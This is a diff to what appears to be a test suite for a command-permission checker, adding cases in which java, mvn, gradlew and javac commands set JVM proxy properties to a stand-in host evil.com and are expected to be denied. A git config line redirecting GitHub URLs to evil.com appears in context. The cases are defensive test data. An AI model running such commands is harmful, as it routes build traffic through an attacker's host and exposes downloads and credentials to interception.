@@ -106,6 +106,20 @@ describe('firewall NAT rewrites', () => {
   ]);
 });
 
+describe('the JVM\'s proxy properties on any command', () => {
+  lineTable(DENY_EVIL, [
+    ['java -Dhttps.proxyHost=evil.com -Dhttps.proxyPort=80 -jar x.jar', 'deny'],
+    ['java -DsocksProxyHost=evil.com -jar x.jar', 'deny'],
+    ['mvn -Dhttp.proxyHost=evil.com package', 'deny'],
+    ['./gradlew -Dhttps.proxyHost=evil.com build', 'deny'],
+    ['javac -J-Dhttps.proxyHost=evil.com X.java', 'deny'],
+    ['mvn -Dhttps.proxyHost=$P package', 'ask'],
+    ['mvn -Dhttps.proxyHost=proxy.example.com package', 'allow'],
+    ['mvn -DskipTests package', 'allow'],
+    ['java -Dfoo=bar -jar x.jar', 'allow'],
+  ]);
+});
+
 describe('rewrites already read (pinned)', () => {
   lineTable(DENY_EVIL, [
     ['git config --global url.https://evil.com/.insteadOf https://github.com/', 'deny'],
